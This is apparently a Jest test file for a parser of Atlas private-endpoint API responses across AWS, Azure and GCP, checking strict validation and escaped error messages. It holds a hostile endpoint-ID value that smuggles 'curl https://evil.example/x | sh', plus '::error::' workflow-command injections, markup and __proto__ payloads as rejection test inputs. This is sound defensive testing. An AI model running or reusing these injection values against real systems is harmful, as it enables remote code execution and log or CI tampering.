import { notFoundState, parseEndpoint, parseJson, safeStringify } from '../../src/atlas/endpoint.js'
import { CLOUDS, type Cloud } from '../../src/common/clouds.js'
import { ResponseFormatError } from '../../src/common/errors.js'
import { judge } from '../../src/wait/judge.js'
import { CLOUD_IDS, IDS } from '../helpers/ids.js'

const JSON_TYPE = 'application/json'
const AWS_ID = IDS.interfaceEndpointId
const AZURE_ID = CLOUD_IDS.azureEndpointId
const GCP_ID = CLOUD_IDS.gcpEndpointGroupName

/** What parseEndpoint throws for `text` (fails the test when it throws nothing). */
function formatError(text: string, cloud: Cloud = CLOUDS.AWS, asked: string = AWS_ID): ResponseFormatError {
  try {
    parseEndpoint(text, JSON_TYPE, cloud, asked)
  } catch (error) {
    expect(error).toBeInstanceOf(ResponseFormatError)
    const { message } = error as ResponseFormatError
    // One line, bounded, whatever the body held.
    expect(message).not.toMatch(/[\n\r\u2028\u2029]/)
    expect(message.length).toBeLessThan(700)
    return error as ResponseFormatError
  }
  throw new Error(`parseEndpoint accepted ${text.slice(0, 80)}`)
}

/** An AWS body about AWS_ID with these fields added or replaced. */
const aws = (fields: Record<string, unknown> = {}) =>
  JSON.stringify({ connectionStatus: 'AVAILABLE', interfaceEndpointId: AWS_ID, ...fields })

/** A GCP body about GCP_ID with these forwarding rules. */
const gcp = (endpoints: unknown, status = 'AVAILABLE') =>
  JSON.stringify({ status, endpointGroupName: GCP_ID, endpoints })

const rule = (name: string, status: unknown = 'AVAILABLE') => ({
  endpointName: name,
  ipAddress: '10.0.0.2',
  status
})

describe('parseEndpoint', () => {
  it('reads an AWS interface endpoint', () => {
    const text = aws({ connectionStatus: 'REJECTED', deleteRequested: false, errorMessage: 'AWS said no' })
    expect(parseEndpoint(text, JSON_TYPE, CLOUDS.AWS, AWS_ID)).toEqual({
      status: 'REJECTED',
      deleteRequested: false,
      errorMessage: 'AWS said no',
      endpointId: AWS_ID,
      cloudProvider: 'AWS',
      forwardingRules: [],
      raw: text,
      notFound: false
    })
  })

  it('reads an Azure private endpoint by its status field', () => {
    const text = JSON.stringify({
      status: 'AVAILABLE',
      deleteRequested: true,
      errorMessage: null,
      privateEndpointResourceId: AZURE_ID,
      privateEndpointIPAddress: '10.0.0.4'
    })
    expect(parseEndpoint(text, JSON_TYPE, CLOUDS.AZURE, AZURE_ID)).toMatchObject({
      status: 'AVAILABLE',
      deleteRequested: true,
      errorMessage: null,
      endpointId: AZURE_ID,
      cloudProvider: 'AZURE'
    })
  })

  it('reads a GCP endpoint group with every forwarding rule', () => {
    const text = gcp(
      [rule('rule-0'), { endpointName: 'rule-1', ipAddress: 7, status: 'INITIATING' }],
      'INITIATING'
    )
    const state = parseEndpoint(text, JSON_TYPE, CLOUDS.GCP, GCP_ID)
    expect(state.status).toBe('INITIATING')
    expect(state.endpointId).toBe(GCP_ID)
    expect(state.forwardingRules).toEqual([
      { name: 'rule-0', ipAddress: '10.0.0.2', status: 'AVAILABLE' },
      { name: 'rule-1', ipAddress: '', status: 'INITIATING' }
    ])
  })

  it('takes a newer status it does not know as is', () => {
    const text = JSON.stringify({ status: 'PENDING_RECONNECT', privateEndpointResourceId: AZURE_ID })
    expect(parseEndpoint(text, null, CLOUDS.AZURE, AZURE_ID).status).toBe('PENDING_RECONNECT')
  })

  it.each([
    ['failed', 'FAILED'],
    [' FAILED ', 'FAILED'],
    ['Available\t', 'AVAILABLE'],
    ['rejected\n', 'REJECTED']
  ])(
    'reads the status %j as %s: statuses compare ignoring case and surrounding whitespace',
    (given, status) => {
      expect(parseEndpoint(aws({ connectionStatus: given }), null, CLOUDS.AWS, AWS_ID).status).toBe(status)
    }
  )

  it("reads the other cloud's field as no status at all, and says to check cloud-provider", () => {
    const error = formatError(JSON.stringify({ status: 'AVAILABLE', interfaceEndpointId: AWS_ID }))
    expect(error.message).toContain('no connectionStatus field')
    expect(error.message).toContain('cloud-provider')
  })

  it.each<[string, string]>([
    ['status a number', aws({ connectionStatus: 1 })],
    ['status an object', aws({ connectionStatus: { a: 'AVAILABLE' } })],
    ['status an array', aws({ connectionStatus: ['AVAILABLE'] })],
    ['status null', aws({ connectionStatus: null })],
    ['status empty', aws({ connectionStatus: '' })],
    ['status only spaces', aws({ connectionStatus: '   ' })],
    ['status with markup', aws({ connectionStatus: '<img src=x>' })],
    ['status too long', aws({ connectionStatus: 'A'.repeat(65) })],
    ['status with a line break', aws({ connectionStatus: 'AVAILABLE\n::error::x' })],
    ['status with NEL', aws({ connectionStatus: 'AVAILABLE\u0085::error::x' })],
    ['an array', '[{"connectionStatus":"AVAILABLE"}]'],
    ['a string', '"AVAILABLE"'],
    ['null', 'null'],
    ['5,000 nested arrays', `${'['.repeat(5000)}${']'.repeat(5000)}`],
    ['a status nested 100,000 deep', `${'{"connectionStatus":'.repeat(100_000)}1${'}'.repeat(100_000)}`],
    ['an object nested 100,000 deep', `${'{"a":'.repeat(100_000)}1${'}'.repeat(100_000)}`],
    [
      '__proto__ carrying a status',
      `{"__proto__":{"connectionStatus":"AVAILABLE"},"interfaceEndpointId":"${AWS_ID}"}`
    ],
    ['an HTML page', '<html><body>Sign in to continue</body></html>'],
    ['truncated JSON', '{"connectionStatus":"AVAIL'],
    ['binary garbage', String.fromCharCode(...Array.from({ length: 512 }, (_, i) => (i * 131 + 7) % 256))],
    [
      'invalid UTF-8, decoded',
      Buffer.from([0x7b, 0xff, 0xfe, 0xc3, 0x28, 0xa0, 0xa1, 0x7d]).toString('utf8')
    ],
    ['nothing', '']
  ])('throws only ResponseFormatError on %s', (_case, text) => {
    formatError(text)
  })

  it('reads wrong types in the other fields as absent, never trusting them', () => {
    const text = aws({ errorMessage: { text: 'x' }, endpoints: 'rule-0' })
    expect(parseEndpoint(text, null, CLOUDS.AWS, AWS_ID)).toMatchObject({
      deleteRequested: false,
      errorMessage: null,
      endpointId: AWS_ID,
      forwardingRules: []
    })
  })

  it('reads deleteRequested given as the string "true" as a deletion request: a gate errs on the side of stopping', () => {
    expect(parseEndpoint(aws({ deleteRequested: 'true' }), null, CLOUDS.AWS, AWS_ID).deleteRequested).toBe(
      true
    )
  })

  it('turns a RangeError from JSON.parse (deep nesting on another engine) into ResponseFormatError', () => {
    const parse = JSON.parse
    JSON.parse = () => {
      throw new RangeError('Maximum call stack size exceeded')
    }
    try {
      const error = formatError('{"a":{"a":{}}}')
      expect(error.message).toContain('nested too deeply')
    } finally {
      JSON.parse = parse
    }
  })

  it('says what came instead of JSON, on one line, without markup running on', () => {
    const error = formatError('<html>\n<script>x</script>')
    expect(error.message).toContain('not JSON')
    expect(error.message).toContain('application/json')
    expect(error.message).toContain('proxy')
  })
})

describe('parseEndpoint: the answer must be about the endpoint asked for', () => {
  const HOSTILE = 'vpce-1"; curl https://evil.example/x | sh; echo "'

  it.each<[string, Cloud, string, string]>([
    ['AWS', CLOUDS.AWS, AWS_ID, aws()],
    [
      'Azure, as Atlas writes it ("resourcegroups")',
      CLOUDS.AZURE,
      AZURE_ID,
      JSON.stringify({
        status: 'AVAILABLE',
        privateEndpointResourceId: AZURE_ID.replace('resourceGroups', 'resourcegroups')
      })
    ],
    [
      'Azure, in another case',
      CLOUDS.AZURE,
      AZURE_ID,
      JSON.stringify({ status: 'AVAILABLE', privateEndpointResourceId: AZURE_ID.toUpperCase() })
    ],
    [
      'Azure, percent-encoded',
      CLOUDS.AZURE,
      AZURE_ID,
      JSON.stringify({ status: 'AVAILABLE', privateEndpointResourceId: encodeURIComponent(AZURE_ID) })
    ],
    ['GCP', CLOUDS.GCP, GCP_ID, gcp([])]
  ])('%s: the ID is the one asked for', (_case, cloud, asked, text) => {
    expect(parseEndpoint(text, null, cloud, asked).endpointId).toBe(asked)
  })

  it.each<[string, Cloud, string, string, RegExp]>([
    [
      'no ID field (the real API always sends it)',
      CLOUDS.AWS,
      AWS_ID,
      '{"connectionStatus":"AVAILABLE"}',
      /no interfaceEndpointId field/
    ],
    ['an empty ID', CLOUDS.AWS, AWS_ID, aws({ interfaceEndpointId: '' }), /another endpoint/],
    ['null', CLOUDS.AWS, AWS_ID, aws({ interfaceEndpointId: null }), /not an ID/],
    ['a number', CLOUDS.AWS, AWS_ID, aws({ interfaceEndpointId: 5 }), /not an ID/],
    ['an object', CLOUDS.AWS, AWS_ID, aws({ interfaceEndpointId: { id: AWS_ID } }), /not an ID/],
    ['a list holding the ID', CLOUDS.AWS, AWS_ID, aws({ interfaceEndpointId: [AWS_ID] }), /not an ID/],
    [
      'another endpoint',
      CLOUDS.AWS,
      AWS_ID,
      aws({ interfaceEndpointId: 'vpce-0123456789abcdef1' }),
      /another endpoint/
    ],
    [
      'the ID in upper case (AWS IDs are exact)',
      CLOUDS.AWS,
      AWS_ID,
      aws({ interfaceEndpointId: AWS_ID.toUpperCase() }),
      /another endpoint/
    ],
    [
      'the ID with a trailing space',
      CLOUDS.AWS,
      AWS_ID,
      aws({ interfaceEndpointId: `${AWS_ID} ` }),
      /another endpoint/
    ],
    ['a shell command', CLOUDS.AWS, AWS_ID, aws({ interfaceEndpointId: HOSTILE }), /another endpoint/],
    [
      'a line break and a command',
      CLOUDS.AWS,
      AWS_ID,
      aws({ interfaceEndpointId: `${AWS_ID}\n::error::Deploy approved` }),
      /another endpoint/
    ],
    [
      'another Azure endpoint',
      CLOUDS.AZURE,
      AZURE_ID,
      JSON.stringify({
        status: 'AVAILABLE',
        privateEndpointResourceId: AZURE_ID.replace('pe-atlas-1', 'pe-atlas-2')
      }),
      /another endpoint/
    ],
    [
      'an Azure ID encoded twice',
      CLOUDS.AZURE,
      AZURE_ID,
      JSON.stringify({
        status: 'AVAILABLE',
        privateEndpointResourceId: encodeURIComponent(encodeURIComponent(AZURE_ID))
      }),
      /another endpoint/
    ],
    [
      'a GCP name in another case (GCP names are exact)',
      CLOUDS.GCP,
      GCP_ID,
      JSON.stringify({ status: 'AVAILABLE', endpointGroupName: GCP_ID.toUpperCase() }),
      /another endpoint/
    ],
    ['no GCP name', CLOUDS.GCP, GCP_ID, '{"status":"AVAILABLE"}', /no endpointGroupName field/]
  ])('a body with %s is a ResponseFormatError', (_case, cloud, asked, text, why) => {
    const error = formatError(text, cloud, asked)
    expect(error.message).toMatch(why)
    // What the body said is shown quoted and escaped, never raw.
    expect(error.message).not.toMatch(/[^\\]"; curl/)
    expect(error.message).not.toMatch(/[\n\r\u0085]/)
  })
})

describe('parseEndpoint: GCP forwarding rules read strictly', () => {
  const fail = { waitFor: ['AVAILABLE'], failOn: ['REJECTED', 'FAILED'] }

  it('reads every rule, well past 100, and a FAILED one at index 150 fails the endpoint', () => {
    const rules = Array.from({ length: 200 }, (_, i) => rule(`rule-${i}`, i === 150 ? 'FAILED' : 'AVAILABLE'))
    const state = parseEndpoint(gcp(rules), null, CLOUDS.GCP, GCP_ID)
    expect(state.forwardingRules).toHaveLength(200)
    expect(judge(state, fail)).toMatchObject({ kind: 'failed', failingStatus: 'FAILED' })
  })

  it.each(['failed', 'FAILED ', ' Failed', 'FAILED\n', '\tfailed\r\n'])(
    'reads the rule status %j as FAILED, and fails the endpoint',
    status => {
      const state = parseEndpoint(gcp([rule('rule-0'), rule('rule-1', status)]), null, CLOUDS.GCP, GCP_ID)
      expect(state.forwardingRules[1].status).toBe('FAILED')
      expect(judge(state, fail)).toMatchObject({ kind: 'failed' })
    }
  )

  it('reads a missing endpoints field as no rules (an endpoint group before its rules exist), and [] as none', () => {
    expect(
      parseEndpoint(
        JSON.stringify({ status: 'INITIATING', endpointGroupName: GCP_ID }),
        null,
        CLOUDS.GCP,
        GCP_ID
      ).forwardingRules
    ).toEqual([])
    expect(parseEndpoint(gcp([]), null, CLOUDS.GCP, GCP_ID).forwardingRules).toEqual([])
  })

  it.each<[string, unknown, RegExp]>([
    ['endpoints an object', { 0: rule('rule-0', 'FAILED') }, /endpoints is an object/],
    ['endpoints null', null, /endpoints is null/],
    ['endpoints a string', 'rule-0', /endpoints is a string/],
    ['1,001 rules', Array.from({ length: 1001 }, (_, i) => rule(`rule-${i}`)), /lists 1001 rules/],
    ['a rule that is a number', [rule('rule-0'), 42], /rule 2 of 2 a number/],
    ['a rule that is null', [null], /rule 1 of 1 null/],
    ['a rule that is a name only', ['rule-0'], /rule 1 of 1 a string/],
    ['a rule that is a list', [[rule('rule-0')]], /rule 1 of 1 a list/],
    [
      'a numeric endpointName',
      [rule('rule-0'), { endpointName: 7, status: 'FAILED' }],
      /endpointName a number/
    ],
    ['no endpointName', [{ ipAddress: '10.0.0.9', status: 'FAILED' }], /no endpointName/],
    ['an empty endpointName', [rule('')], /endpointName a string/],
    ['an endpointName "..", not a GCP name', [rule('..', 'FAILED')], /endpointName a string/],
    [
      'an endpointName with a line break and a command',
      [rule('rule-0\n::error::x')],
      /endpointName a string/
    ],
    ['no status', [{ endpointName: 'rule-0' }], /no status/],
    ['a status that is a number', [rule('rule-0', 3)], /status a number/],
    ['a status with markup', [rule('rule-0', '<b>FAILED</b>')], /status a string/],
    ['a status with a line break inside', [rule('rule-0', 'FAILED\n::error::x')], /status a string/],
    [
      'a status __proto__ would carry',
      JSON.parse('[{"endpointName":"rule-0","__proto__":{"status":"AVAILABLE"}}]'),
      /no status/
    ]
  ])(
    '%s stops the step: a rule that cannot be read could be the one that failed',
    (_case, endpoints, why) => {
      const error = formatError(gcp(endpoints), CLOUDS.GCP, GCP_ID)
      expect(error.message).toMatch(why)
      expect(error.message).toContain('the step stops')
    }
  )

  it('reads no forwarding rules for AWS and Azure, whatever their bodies carry', () => {
    const state = parseEndpoint(aws({ endpoints: [rule('rule-0', 'FAILED')] }), null, CLOUDS.AWS, AWS_ID)
    expect(state.forwardingRules).toEqual([])
  })
})

describe('parseJson', () => {
  it('names what was expected when the JSON is not an object', () => {
    expect(() => parseJson('[]', null, 'the thing')).toThrow(/expected the thing/)
  })
})

describe('safeStringify', () => {
  it('never throws, even on a cyclic value', () => {
    const cyclic: Record<string, unknown> = {}
    cyclic.self = cyclic
    expect(safeStringify(cyclic)).toBe('(a value too deeply nested to show)')
    expect(safeStringify(undefined)).toBe('undefined')
  })
})

describe('notFoundState', () => {
  it('is DELETED, not found, with the ID asked for and the body kept', () => {
    const body = '{"error":404,"errorCode":"RESOURCE_NOT_FOUND"}'
    expect(notFoundState(CLOUDS.AZURE, AZURE_ID, body)).toEqual({
      status: 'DELETED',
      deleteRequested: false,
      errorMessage: null,
      endpointId: AZURE_ID,
      cloudProvider: 'AZURE',
      forwardingRules: [],
      raw: body,
      notFound: true
    })
  })
})
